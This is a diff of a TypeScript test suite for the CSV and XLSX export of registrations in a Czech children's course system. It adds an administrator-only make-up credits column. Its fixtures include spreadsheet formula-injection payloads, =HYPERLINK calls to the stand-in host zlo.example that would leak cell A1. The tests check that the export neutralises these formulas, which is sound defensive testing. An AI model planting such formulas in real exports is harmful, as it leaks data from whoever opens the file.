@@ -26,8 +26,9 @@ const HOSTILE = '=HYPERLINK("http://zlo.example/?x="&A1;"Klikněte")';
 const NOTE = 'Alergie; "ořechy"\r\nDruhý řádek,=HYPERLINK("http://zlo.example")';
 const HEADER =
   'Přihlášeno;Ke kontrole;Dítě;Narozeno;Rodič;E-mail;Telefon;Typ;Kroužek / tábor;Pobočka;Termín;Náhradník;' +
-  'Platba;VS;Faktura;Zrušeno;Souhlas s foto;Poznámka';
-const VS = 13; // the column of the variable symbol
+  'Platba;Náhrady;VS;Faktura;Zrušeno;Souhlas s foto;Poznámka';
+const VS = 14; // the column of the variable symbol
+const MAKEUPS = 13; // the column of the make-up credits (administrators only)
 
 beforeAll(async () => {
   database = await createTestDatabase();
@@ -43,13 +44,20 @@ beforeAll(async () => {
     last_name: 'Nováková',
     phone: '+420 777 123 456',
   });
-  await insertRegistration(database, {
+  const withCredits = await insertRegistration(database, {
     schedule_id: scheduleId,
     child_full_name: HOSTILE,
     note: NOTE,
     customer_id: customerId,
     created_at: '2026-11-20T10:00:00Z',
   });
+  // Two credits: one available, one past its expiry (expired as of now, not yet written down).
+  await database.dataSource.query(
+    `INSERT INTO makeup_credit (registration_id, origin, state, expires_at, reason) VALUES
+       ($1, 'staff', 'available', now() + interval '30 days', 'Nemoc lektora'),
+       ($1, 'staff', 'available', now() - interval '1 minute', 'Dřívější')`,
+    [withCredits],
+  );
   const names = ['Žofie Malá', 'Adam Veselý', 'Čeněk Dvořák', 'Bára Svobodová', 'Ema Králová'];
   for (const [index, name] of names.entries())
     await insertRegistration(database, {
@@ -148,7 +156,7 @@ describe('the CSV export', () => {
     expect(text).toContain(`"'=HYPERLINK(""http://zlo.example/?x=""&A1;""Klikněte"")"`);
     const hostile = parseCsv(text.slice(1)).find((row) => row[2]?.includes('HYPERLINK'))!;
     expect(hostile[2]).toBe(`'${HOSTILE}`);
-    expect(hostile[17]).toBe('Alergie; "ořechy"\r\nDruhý řádek,\'=HYPERLINK("http://zlo.example")');
+    expect(hostile[18]).toBe('Alergie; "ořechy"\r\nDruhý řádek,\'=HYPERLINK("http://zlo.example")');
     expect(hostile.slice(0, 2)).toEqual(['20.11.2026', 'Kontakt se liší od zákazníka: Jméno rodiče']);
     expect(hostile.slice(7, 13)).toEqual([
       'Kroužek',
@@ -168,7 +176,7 @@ describe('the CSV export', () => {
     }
     const camps = (await csvRows({ type: 'camp', cancelled: 'false' })).slice(1);
     expect(camps).toHaveLength(5);
-    expect(camps.every((row) => row[15] === '' && row[7] === 'Tábor')).toBe(true);
+    expect(camps.every((row) => row[16] === '' && row[7] === 'Tábor' && row[MAKEUPS] === '')).toBe(true);
     const none = await csvRows({ text: 'nikdo takový' });
     expect(none).toEqual([HEADER.split(';')]);
   });
@@ -205,7 +213,7 @@ describe('the XLSX export', () => {
     expect(sheet.name).toBe('Přihlášky');
     const cells: string[][] = [];
     sheet.eachRow({ includeEmpty: true }, (row) => {
-      cells.push(Array.from({ length: 18 }, (_, index) => row.getCell(index + 1).text));
+      cells.push(Array.from({ length: 19 }, (_, index) => row.getCell(index + 1).text));
     });
     const csv = await csvRows(query);
     // The same cells. CSV alone needs the apostrophe that keeps a formula from running; XML reads a
@@ -225,9 +233,18 @@ describe('the XLSX export', () => {
 });
 
 describe('who may export, and refusals', () => {
-  it('lectors may (they read registrations); anonymous callers get 401 in Czech', async () => {
+  it('lectors may (they read registrations), without the make-up credits; anonymous callers get 401 in Czech', async () => {
     const byLector = await download({ format: 'csv' }, lector);
     expect(byLector.response.status).toBe(200);
+    const lectorHeader = byLector.bytes
+      .toString('utf8')
+      .replace(/^\uFEFF/, '')
+      .split('\r\n')[0]!;
+    expect(parseCsv(lectorHeader)[0]).toEqual(HEADER.replace(';Náhrady', '').split(';'));
+    // Administrators see them: available now of all the registration had.
+    const [adminHeader, ...rows] = await csvRows({ type: 'course' });
+    expect(adminHeader![MAKEUPS]).toBe('Náhrady');
+    expect(rows.map((row) => row[MAKEUPS])).toEqual(['1 k použití z 2']);
     const anonymous = await download({ format: 'csv' }, {});
     expect(anonymous.response.status).toBe(401);
     expect(JSON.parse(anonymous.bytes.toString())).toEqual({ code: 'AUTH_NOT_LOGGED_IN', message: NOT_LOGGED_IN });
